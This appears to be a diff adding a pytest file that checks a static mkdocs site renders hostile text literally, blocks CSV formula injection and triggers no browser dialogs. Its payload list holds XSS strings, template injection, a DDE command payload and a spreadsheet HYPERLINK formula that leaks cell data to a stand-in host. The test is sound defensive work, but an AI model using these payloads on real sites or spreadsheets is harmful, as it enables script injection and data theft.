@@ -1,0 +1,266 @@
+"""Markup, links and template syntax in every text field are shown literally and never run.
+
+One real `mkdocs build --strict` (per test session) of a fact set whose every displayed text
+field holds an injection string: country names and aliases, event names and places, claims,
+and the title, outlet and author of every source (a copied corpus with its own sources.yml).
+Each page's visible text must hold the string as written, and the audit must find nothing.
+"""
+
+from __future__ import annotations
+
+import csv
+import functools
+import io
+import json
+import re
+import shutil
+import subprocess
+import sys
+import threading
+from collections.abc import Iterator
+from html.parser import HTMLParser
+from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from playwright.sync_api import sync_playwright
+
+from generator.audit import audit_site
+
+from .workspace import REPO_ROOT
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    '<svg><a href="javascript:alert(1)">x</a></svg>',
+    "<details open ontoggle=alert(1)>",
+    "an unclosed <b>bold",
+    "[x](javascript:alert(1))",
+    "&#106;avascript:alert(1)",
+    "[x][1]\n\n[1]: javascript:alert(1)",
+    'Name {: onclick="alert(1)" }',
+    "Place\n\n# Heading",
+    "{{ 7*7 }}",
+    "{% raw %}",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    '@SUM(1+1)*cmd|" /C calc"!A0',
+]
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+QUOTE = "Australia said it would provide eight aircraft and 600 personnel to help combat IS."
+DOC = "001_45c1c8414a270103"
+
+
+def code(index: int) -> str:
+    return "X" + "ABCDEFGHIJKLMNOPQRSTUVWXYZ"[index]
+
+
+def injected_facts() -> dict[str, list[dict[str, object]]]:
+    """A country, an event and a fact per payload, the payload in each of their text fields."""
+    source = {"doc": DOC, "quote": QUOTE}
+    return {
+        "countries": [
+            {"code": code(i), "name": text, "aliases": [text]} for i, text in enumerate(PAYLOADS)
+        ],
+        "events": [
+            {
+                "id": f"injected-{i}",
+                "name": text,
+                "date": "2014-09-15",
+                "place": text,
+                "countries": [code(i)],
+                "sources": [source],
+            }
+            for i, text in enumerate(PAYLOADS)
+        ],
+        "facts": [
+            {
+                "id": f"injected-fact-{i}",
+                "countries": [code(i)],
+                "event": f"injected-{i}",
+                "topic": "other",
+                "claim": text,
+                "sources": [source],
+            }
+            for i, text in enumerate(PAYLOADS)
+        ],
+    }
+
+
+def metadata_slots(count: int) -> list[tuple[str, str, str]]:
+    """(title, outlet, author) for `count` documents, cycling through every payload."""
+    cycle = [PAYLOADS[i % len(PAYLOADS)] for i in range(3 * max(count, 4))]
+    return [(cycle[3 * i], cycle[3 * i + 1], cycle[3 * i + 2]) for i in range(count)]
+
+
+def write_sources(corpus: Path) -> dict[str, tuple[str, str, str]]:
+    listed = yaml.load((corpus / "sources.yml").read_text(encoding="utf-8"), yaml.BaseLoader)
+    documents = listed["documents"]
+    shown = {}
+    for entry, (title, outlet, author) in zip(
+        documents, metadata_slots(len(documents)), strict=True
+    ):
+        entry.update(title=title, outlet=outlet, author=author)
+        shown[entry["id"]] = (title, outlet, author)
+    text = json.dumps({"documents": documents}, ensure_ascii=False, indent=1)
+    (corpus / "sources.yml").write_text(text + "\n", encoding="utf-8")  # JSON is YAML
+    return shown
+
+
+class _Text(HTMLParser):
+    """The visible text of a page: character data outside script and style, entities decoded."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.parts: list[str] = []
+        self._hidden = 0
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self._hidden += tag in ("script", "style")
+
+    def handle_endtag(self, tag: str) -> None:
+        self._hidden -= tag in ("script", "style")
+
+    def handle_data(self, data: str) -> None:
+        if not self._hidden:
+            self.parts.append(data)
+
+
+def visible_text(page: Path) -> str:
+    parser = _Text()
+    parser.feed(page.read_text(encoding="utf-8"))
+    return " ".join("".join(parser.parts).split())
+
+
+def folded(text: str) -> str:
+    return " ".join(text.split())
+
+
+@pytest.fixture(scope="session")
+def injected_site(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, object]]:
+    root = tmp_path_factory.mktemp("injected")
+    shutil.copytree(REPO_ROOT / "corpus", root / "corpus")
+    shutil.copytree(REPO_ROOT / "docs", root / "docs")
+    shutil.copy(REPO_ROOT / "mkdocs.yml", root / "mkdocs.yml")
+    (root / "facts").mkdir()
+    facts = json.dumps(injected_facts(), ensure_ascii=False, indent=1)
+    (root / "facts" / "injected.yml").write_text(facts + "\n", encoding="utf-8")
+    sources = write_sources(root / "corpus")
+    command = [sys.executable, "-m", "mkdocs", "build", "--strict", "-d", str(root / "site")]
+    built = subprocess.run(
+        command, cwd=root, capture_output=True, text=True, timeout=300, check=False
+    )
+    assert built.returncode == 0, built.stderr[-3000:]
+    return root / "site", {"sources": sources}
+
+
+def test_the_audit_finds_nothing_on_the_injected_site(
+    injected_site: tuple[Path, dict[str, object]],
+) -> None:
+    site, _ = injected_site
+    count, findings = audit_site(site)
+    assert count >= 2 * len(PAYLOADS) + 5  # a page per country, event and source at least
+    assert findings == []
+
+
+@pytest.mark.parametrize("index", range(len(PAYLOADS)))
+def test_country_event_and_fact_text_is_shown_literally(
+    index: int, injected_site: tuple[Path, dict[str, object]]
+) -> None:
+    site, _ = injected_site
+    payload = folded(PAYLOADS[index])
+    country_page = visible_text(site / "countries" / code(index).lower() / "index.html")
+    event_page = visible_text(site / "events" / f"injected-{index}" / "index.html")
+    assert country_page.count(payload) >= 2  # its name, and the claim of its fact
+    assert event_page.count(payload) >= 3  # the event's name and place, and the fact's claim
+
+
+@pytest.mark.parametrize("doc", sorted(p.stem for p in (REPO_ROOT / "corpus").glob("*.txt")))
+def test_source_metadata_is_shown_literally(
+    doc: str, injected_site: tuple[Path, dict[str, object]]
+) -> None:
+    site, context = injected_site
+    sources = context["sources"]
+    assert isinstance(sources, dict)
+    page = visible_text(site / "sources" / doc / "index.html")
+    for text in sources[doc]:
+        assert folded(text) in page
+
+
+def test_no_csv_cell_starts_a_spreadsheet_formula(
+    injected_site: tuple[Path, dict[str, object]],
+) -> None:
+    site, _ = injected_site
+    text = (site / "downloads" / "facts.csv").read_text(encoding="utf-8")
+    rows = list(csv.reader(io.StringIO(text)))
+    assert len(rows) == len(PAYLOADS) + 1
+    claims = [row[rows[0].index("claim")] for row in rows[1:]]
+    assert "'" + PAYLOADS[-1] in claims
+    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
+
+
+def test_no_payload_became_markup(injected_site: tuple[Path, dict[str, object]]) -> None:
+    """Belt and braces: none of the payloads' tags or headings exist as elements anywhere."""
+    site, _ = injected_site
+    for page in site.rglob("*.html"):
+        html = page.read_text(encoding="utf-8")
+        assert "<details open ontoggle" not in html
+        assert "<b>bold" not in html
+        assert not re.search(r"<h1[^>]*>\s*Heading", html)
+        assert ">49<" not in html
+
+
+CHROMIUM = "/usr/bin/chromium"
+CHROMIUM_ARGS = [
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+    "--no-first-run",
+]
+
+
+class _QuietHandler(SimpleHTTPRequestHandler):
+    def log_message(self, format: str, *args: Any) -> None:
+        pass
+
+
+@pytest.fixture(scope="module")
+def served(injected_site: tuple[Path, dict[str, object]]) -> Iterator[str]:
+    handler = functools.partial(_QuietHandler, directory=str(injected_site[0]))
+    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}/"
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+@pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="needs Debian's chromium")
+def test_no_page_runs_a_payload_in_chromium(
+    served: str, injected_site: tuple[Path, dict[str, object]]
+) -> None:
+    """Every page holding a payload, opened in headless Chromium: no dialog, no navigation."""
+    site, _ = injected_site
+    pages = sorted(
+        path.parent.relative_to(site).as_posix() + "/"
+        for folder in ("countries", "events", "sources")
+        for path in (site / folder).glob("*/index.html")
+    )
+    assert len(pages) >= 2 * len(PAYLOADS) + 5
+    dialogs: list[str] = []
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
+        page = browser.new_page()
+        local = re.compile("^" + re.escape(served))
+        page.route(lambda url: not local.match(url), lambda route: route.abort())  # no network
+        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+        for path in pages:
+            page.goto(served + path, wait_until="load")
+            page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
+            assert page.url == served + path
+        browser.close()
+    assert dialogs == []
